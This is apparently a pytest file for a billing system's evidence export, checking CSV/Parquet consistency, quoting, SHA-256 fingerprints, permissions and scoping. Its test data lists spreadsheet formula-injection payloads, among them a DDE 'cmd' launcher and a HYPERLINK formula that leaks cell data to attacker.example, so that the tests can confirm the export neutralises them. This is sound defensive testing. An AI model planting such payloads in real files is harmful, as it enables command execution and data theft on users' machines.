"""The exported files: what they hold, that they agree with each other and with their fingerprints, and that they are inert."""

from __future__ import annotations

import hashlib
from decimal import Decimal

import pytest
from pyarrow import parquet

from billing.failures import BillingFailure, FailureCode
from tests.adapters.evidence.world import World, new_id

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\nharmless",
    " =1+1",
    "\u00a0\u200b=1+1",
    "\ufeff=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\u22121+1",
    '=HYPERLINK("http://attacker.example?"&A1,"look")',
)
HARMLESS = (
    "/v1/answers",
    "plain",
    "ünïcode",
    "a=b",
    "name@host",
    "'quoted",
    'with "quotes", commas and\nlines',
    "-12.50",
    "+7",
    "42",
    "",
    "~",
    "?",
    "日本語",
)


def test_formulas_become_text_in_every_column_that_customers_can_fill(world: World) -> None:
    for second, payload in enumerate(FORMULAS):
        at = f"2026-10-05 10:00:{second:02}"
        trace = world.request(at, route=payload, api_key_id=payload, network=payload)
        world.event(at, route=payload, tool=payload, model=payload, api_key_id=payload, trace_id=trace)

    pack = world.collect()

    events, requests = world.table(pack, "usage_events.csv"), world.table(pack, "request_logs.csv")
    for column in ("route", "tool", "model", "api_key_id"):
        assert [event[column] for event in events] == [f"'{payload}" for payload in FORMULAS]
    for column in ("route", "api_key_id", "network"):
        assert [request[column] for request in requests] == [f"'{payload}" for payload in FORMULAS]


def test_text_that_is_no_formula_and_numbers_stay_as_they_are(world: World) -> None:
    for second, value in enumerate(HARMLESS):
        world.event(f"2026-10-05 10:00:{second:02}", "-12.5", route=value, tool=value)

    events = world.table(world.collect(), "usage_events.csv")

    assert [event["route"] for event in events] == list(HARMLESS)
    assert [event["tool"] for event in events] == list(HARMLESS)
    assert {event["quantity"] for event in events} == {"-12.500000"}


def test_every_value_is_quoted_and_only_a_missing_one_is_bare(world: World) -> None:
    trace = new_id()
    event = world.event("2026-10-05 10:00", "1.5", tool=None, model="", trace_id=trace)

    pack = world.collect()

    assert world.file(pack, "usage_events.csv").read_text() == (
        "event_time,route,tool,model,meter,quantity,trace_id,event_id,api_key_id\n"
        f'"2026-10-05 10:00:00+00","/v1/answers",,"","api_calls","1.500000","{trace}","{event}","key-1"\n'
    )


def test_parquet_and_csv_hold_the_same_rows_in_the_same_order(world: World) -> None:
    for number, text in enumerate((*FORMULAS, *HARMLESS)):
        world.event(f"2026-10-05 10:{59 - number:02}:00.123456", f"{number}.000001", route=text, tool=text)
    world.event("2026-10-05 10:30", tool=None)

    pack = world.collect()

    typed = parquet.read_table(world.file(pack, "usage_events.parquet")).to_pylist()
    plain = world.table(pack, "usage_events.csv")
    assert [row["event_id"] for row in typed] == [row["event_id"] for row in plain]
    assert [(row["route"], row["tool"] or "", row["quantity"]) for row in typed] == [
        (row["route"], row["tool"], Decimal(row["quantity"])) for row in plain
    ]
    assert [row["event_time"] for row in typed] == sorted(row["event_time"] for row in typed)
    assert [row["event_time"] for row in typed] == [world.moment(f"{row['event_time']}:00") for row in plain]
    assert {row["tool"] for row in typed} >= {None, ""}


def test_the_export_holds_the_disputed_meters_of_the_tenant_and_period_only(world: World) -> None:
    inside = [world.event("2026-10-01 00:00"), world.event("2026-10-31 23:59:59.999999", meter="tokens_in")]
    for moment in ("2026-09-30 23:59:59.999999", "2026-11-01 00:00"):
        world.event(moment)
    world.event("2026-10-05 10:00", meter="tokens_out")
    world.event("2026-10-05 10:00", tenant_id="other")

    pack = world.collect(world.scope(meters=("api_calls", "tokens_in")))

    assert [row["event_id"] for row in world.table(pack, "usage_events.csv")] == [str(event) for event in inside]
    assert pack.events == 2


def test_requests_are_exported_when_they_match_an_event_or_should_have_had_one(world: World) -> None:
    counted = world.request("2026-09-30 23:59:59")
    world.event("2026-10-01 00:00", trace_id=counted)
    unmetered = world.request("2026-10-05 10:00", meter=None, quantity="0")
    world.event("2026-10-05 10:00", trace_id=unmetered)
    failed = world.request("2026-10-05 11:00", status=500)
    world.request("2026-10-05 12:00", meter="tokens_in")
    world.request("2026-10-05 12:00", tenant_id="other")
    world.request("2026-11-01 00:00")

    pack = world.collect()

    assert [(row["trace_id"], row["has_event"]) for row in world.table(pack, "request_logs.csv")] == [
        (str(counted), "t"),
        (str(unmetered), "t"),
        (str(failed), "f"),
    ]


def test_every_file_carries_its_rows_size_and_sha256(world: World) -> None:
    for day in range(1, 8):
        world.call(f"2026-10-{day:02} 10:00")
    world.roll_up_month()

    pack = world.collect()

    assert [(file.name, file.rows) for file in pack.files] == [
        ("usage_events.csv", 7),
        ("usage_events.parquet", 7),
        ("request_logs.csv", 7),
        ("rollup.csv", 31),
        ("fact_rows.csv", 0),
    ]
    for file in pack.files:
        content = world.file(pack, file.name).read_bytes()
        assert (file.size_bytes, file.sha256) == (len(content), hashlib.sha256(content).hexdigest())


def test_only_the_owner_can_read_the_evidence(world: World) -> None:
    world.event("2026-10-05 10:00")

    pack = world.collect()

    folder = world.directory / pack.evidence_id
    assert folder.stat().st_mode & 0o077 == 0
    assert all(file.stat().st_mode & 0o077 == 0 for file in folder.iterdir())


def test_a_quantity_that_is_no_number_stops_the_export_with_a_sentence(world: World) -> None:
    world.event("2026-10-05 10:00", "NaN")

    with pytest.raises(BillingFailure, match=r"usage_events\.parquet cannot hold these rows") as failure:
        world.collect()

    assert failure.value.code is FailureCode.INVALID
